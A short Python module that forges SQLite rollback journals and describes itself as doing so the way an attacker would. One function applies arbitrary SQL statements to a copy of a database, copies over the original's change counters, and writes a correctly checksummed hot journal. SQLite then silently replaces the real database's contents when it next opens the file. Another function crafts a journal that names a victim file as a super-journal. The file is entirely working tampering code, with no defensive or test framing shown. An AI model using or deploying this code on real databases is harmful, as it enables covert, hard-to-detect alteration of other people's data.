"""Rollback journals as an attacker makes them
(https://www.sqlite.org/fileformat2.html#the_rollback_journal)."""

from __future__ import annotations

import shutil
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
PAGE = 4096


def journal_naming(victim: str) -> bytes:
    """A journal of no page whose transaction was part of one over several files, which is noted in a
    victim."""
    header = struct.pack(">8sIIIII", MAGIC, 0, 1, 1, SECTOR, PAGE).ljust(SECTOR, b"\0")
    name = victim.encode()
    checksum = sum(name) & 0xFFFFFFFF
    return header + struct.pack(">I", 1) + name + struct.pack(">II", len(name), checksum) + MAGIC


def forge_journal(database: Path, *statements: str) -> Path:
    """A hot journal beside a database that rolls it forward into what statements make of a copy of it. Its
    counters are those of the database, so that nothing tells it from one that a writer left."""
    forged = database.with_name("forged.tmp")
    shutil.copyfile(database, forged)
    with sqlite3.connect(forged, isolation_level=None) as db:
        for statement in statements:
            db.execute(statement)
    db.close()
    page_size = struct.unpack(">H", forged.read_bytes()[16:18])[0]
    content = bytearray(forged.read_bytes())
    content[24:28] = database.read_bytes()[24:28]
    content[92:96] = database.read_bytes()[92:96]
    forged.unlink()
    pages = [content[at : at + page_size] for at in range(0, len(content), page_size)]
    nonce = 7
    header = struct.pack(">8sIIIII", MAGIC, len(pages), nonce, len(pages), SECTOR, page_size)
    records = b"".join(
        struct.pack(">I", number) + bytes(page) + struct.pack(">I", _checksum(bytes(page), nonce))
        for number, page in enumerate(pages, start=1)
    )
    journal = Path(f"{database}-journal")
    journal.write_bytes(header.ljust(SECTOR, b"\0") + records)
    return journal


def _checksum(page: bytes, nonce: int) -> int:
    """SQLite's checksum of a page: every 200th byte from the end, and the nonce."""
    total = nonce
    offset = len(page) - 200
    while offset > 0:
        total += page[offset]
        offset -= 200
    return total & 0xFFFFFFFF
